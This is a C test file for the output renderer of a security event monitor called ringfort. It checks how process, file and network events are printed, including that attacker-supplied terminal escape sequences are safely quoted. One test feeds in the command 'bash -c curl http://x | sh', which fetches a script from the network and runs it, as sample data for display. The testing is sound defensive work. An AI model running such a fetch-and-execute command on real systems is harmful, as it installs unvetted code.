/* SPDX-License-Identifier: Apache-2.0 */
#undef NDEBUG
#include "cli/render.h"
#include "event/sample.h"

#include <assert.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static _Alignas(8) char buffer[RINGFORT_MAX_EVENT];

static char *rendered(const struct ringfort_event *event, bool verbose)
{
	struct screen screen = { .utf8 = true };
	char *text = NULL;
	size_t size;

	assert(ringfort_event_check(event, event->size) == 0);
	screen.file = open_memstream(&text, &size);
	assert(screen.file);
	render_event(&screen, event, verbose);
	fclose(screen.file);
	return text;
}

static void expect(const struct ringfort_event *event, const char *expected)
{
	char *text = rendered(event, false);

	if (strcmp(text, expected) != 0)
		fprintf(stderr, "rendered %sexpected %s", text, expected);
	assert(strcmp(text, expected) == 0);
	free(text);
}

#define HEAD(type) "04:09:00.123 " type "    1001 'value of exe': "

static void every_type_is_one_line_that_tells_most(void)
{
	static const struct {
		uint32_t type;
		const char *expected;
	} cases[] = {
		{ ringfort_type_process_exec,
		  "04:09:00.123 process.exec       1001 /sample/file: argv 'two words' '' "
		  "(script /sample/script) (memfd) (error -2014)\n" },
		{ ringfort_type_process_fork, HEAD("process.fork   ") "child 2001\n" },
		{ ringfort_type_process_exit, HEAD("process.exit   ") "killed by signal 2002, core dumped\n" },
		{ ringfort_type_process_setid,
		  HEAD("process.setid  ") "uid 2010 -> 2001 euid 2011 -> 2002 gid 2012 -> 2005 "
					  "egid 2013 -> 2006 capabilities 1000007d9\n" },
		{ ringfort_type_process_ptrace,
		  HEAD("process.ptrace ") "1 2002 'value of target_exe' (error -2004)\n" },
		{ ringfort_type_file_open_write, HEAD("file.open_write") "/sample/file\n" },
		{ ringfort_type_file_create,
		  HEAD("file.create    ") "directory /sample/file -> 'value of target'\n" },
		{ ringfort_type_file_modify, HEAD("file.modify    ") "/sample/file\n" },
		{ ringfort_type_file_rename, HEAD("file.rename    ") "/sample/from -> /sample/to\n" },
		{ ringfort_type_file_unlink, HEAD("file.unlink    ") "directory /sample/file\n" },
		{ ringfort_type_file_attr, HEAD("file.attr      ") "owner 2004:2005 /sample/file\n" },
		{ ringfort_type_net_connect, HEAD("net.connect    ") "icmp 192.0.2.1:443 (error -2004)\n" },
		{ ringfort_type_net_bind, HEAD("net.bind       ") "icmp 192.0.2.1:443 (error -2003)\n" },
		{ ringfort_type_net_listen, HEAD("net.listen     ") "icmp 192.0.2.1:443\n" },
		{ ringfort_type_net_accept, HEAD("net.accept     ") "icmp 192.0.2.1:443 from 192.0.2.1:443\n" },
		{ ringfort_type_stream_loss,
		  "04:09:00.123 stream.loss     LOST 4294969299 of a type that cannot be told: skipped\n" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		expect(sample_event(cases[i].type, buffer), cases[i].expected);
}

static void every_type_is_one_line_and_verbose_names_every_field(void)
{
	uint32_t n;
	const struct ringfort_field *common = ringfort_process_fields(&n);

	for (uint32_t type = 1; type < RINGFORT_MAX_TYPES; type++) {
		const struct ringfort_type_info *info = ringfort_type_info(type);
		char *text, name[64];

		if (!info)
			continue;
		text = rendered(sample_event(type, buffer), false);
		assert(strchr(text, '\n') == text + strlen(text) - 1);
		free(text);
		text = rendered(sample_event(type, buffer), true);
		for (uint32_t i = 0; i < n + info->n_fields; i++) {
			snprintf(name, sizeof(name), " %s=", i < n ? common[i].name : info->fields[i - n].name);
			assert(strstr(text, name));
		}
		free(text);
	}
}

static void a_real_command_line_reads_like_one(void)
{
	struct ringfort_event *event = sample_event(ringfort_type_process_exec, buffer);
	struct ringfort_process_exec *exec = (void *)(event + 1);
	static const char argv[] = "bash\0-c\0curl http://x | sh";

	exec->flags = 0;
	exec->error = 0;
	exec->script = (struct ringfort_file){ 0 };
	sample_set(event, &exec->file.path, "/usr/bin/bash", 13);
	sample_set(event, &exec->argv, argv, sizeof(argv) - 1);
	expect(event, "04:09:00.123 process.exec       1001 /usr/bin/bash: bash -c 'curl http://x | sh'\n");
	exec->error = 13;
	expect(event, "04:09:00.123 process.exec       1001 /usr/bin/bash: bash -c 'curl http://x | sh' (EACCES)\n");
}

static void what_an_attacker_wrote_cannot_move_the_cursor(void)
{
	struct ringfort_event *event = sample_event(ringfort_type_file_unlink, buffer);
	struct ringfort_file_unlink *act = (void *)(event + 1);

	act->directory = 0;
	sample_set(event, &act->file.path, "/tmp/\033[1A\r\n04:09", 16);
	sample_set(event, &event->process.exe, "\xc2\x9b" "2J", 4);
	expect(event, "04:09:00.123 file.unlink        1001 $'\\302\\2332J': $'/tmp/\\033[1A\\015\\n04:09'\n");
}

static void doubts_about_a_path_are_told(void)
{
	struct ringfort_event *event = sample_event(ringfort_type_file_modify, buffer);
	struct ringfort_file_modify *act = (void *)(event + 1);

	act->file.quality = RINGFORT_QUALITY_RACED;
	act->file.flags = 1u << RINGFORT_FILE_FOREIGN_NS | 1u << RINGFORT_FILE_DELETED;
	event->via = RINGFORT_VIA_IO_URING;
	event->flags = RINGFORT_FLAG_SELFTEST;
	expect(event, HEAD("file.modify    ") "/sample/file (raced) (foreign_ns,deleted) via io_uring (self-test)\n");
}

static void addresses_of_every_family_are_readable(void)
{
	struct ringfort_event *event = sample_event(ringfort_type_net_accept, buffer);
	struct ringfort_net_accept *act = (void *)(event + 1);

	act->protocol = RINGFORT_PROTOCOL_TCP;
	act->remote = (struct ringfort_addr){ .family = RINGFORT_FAMILY_INET6, .port = 53,
					      .ip = { 0x20, 0x01, 0x0d, 0xb8, [15] = 1 } };
	act->local = (struct ringfort_addr){ .family = RINGFORT_FAMILY_UNIX };
	sample_set(event, &act->local.path, "/run/x y", 8);
	expect(event, HEAD("net.accept     ") "tcp unix:'/run/x y' from [2001:db8::1]:53\n");
	act->local = (struct ringfort_addr){ .family = 99 };
	expect(event, HEAD("net.accept     ") "tcp 99 from [2001:db8::1]:53\n");
}

static void a_loss_names_the_type(void)
{
	struct ringfort_event *event = sample_event(ringfort_type_stream_loss, buffer);
	struct ringfort_stream_loss *loss = (void *)(event + 1);

	loss->lost_type = ringfort_type_file_create;
	loss->count = 12;
	expect(event, "04:09:00.123 stream.loss     LOST 12 of file.create: skipped\n");
}

int main(void)
{
	setenv("TZ", "UTC", 1);
	tzset();
	every_type_is_one_line_that_tells_most();
	every_type_is_one_line_and_verbose_names_every_field();
	a_real_command_line_reads_like_one();
	what_an_attacker_wrote_cannot_move_the_cursor();
	doubts_about_a_path_are_told();
	addresses_of_every_family_are_readable();
	a_loss_names_the_type();
	return 0;
}
